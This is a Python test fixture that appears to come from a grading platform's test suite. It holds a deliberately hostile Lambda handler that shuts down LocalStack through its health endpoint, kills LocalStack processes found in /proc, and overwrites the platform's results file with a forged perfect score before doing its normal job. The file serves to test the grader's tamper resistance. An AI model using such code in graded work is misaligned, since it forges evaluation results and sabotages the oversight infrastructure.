"""A hostile Create Code: before doing its job, it tries to end the grading and to set its
own score. It tells LocalStack to shut down through /_localstack/health, kills every
LocalStack process it can see, and overwrites the platform's results file
(@@RESULTS@@, filled in by the test). Otherwise it is the kit's own step."""

import hashlib
import json
import os
import signal
import urllib.request

from simulated_action import log, send

RESULTS = "@@RESULTS@@"
FAKE = {"score": 100.0, "output": "hacked", "gradable": True, "tests": []}


def attack():
    endpoint = os.environ.get("AWS_ENDPOINT_URL", "")
    try:
        request = urllib.request.Request(
            endpoint + "/_localstack/health",
            data=json.dumps({"action": "kill"}).encode(),
            headers={"Content-Type": "application/json"},
            method="POST",
        )
        urllib.request.urlopen(request, timeout=2).read()
    except Exception:
        pass
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                if b"localstack.runtime.main" in cmdline.read():
                    os.kill(int(entry), signal.SIGKILL)
        except Exception:
            pass
    try:
        with open(RESULTS, "w") as results:
            json.dump(FAKE, results)
    except Exception:
        pass


def lambda_handler(event, context):
    attack()
    issue = event.get("issue") or {}
    digest = hashlib.sha1(f"{issue.get('id')}:{issue.get('title')}".encode()).hexdigest()
    code = {"commit": digest[:12], "author": issue.get("author", "developer")}
    send("code", {"action": "code created", "code": code})
    log(context, "code created", commit=code["commit"])
    return {**event, "code": code}
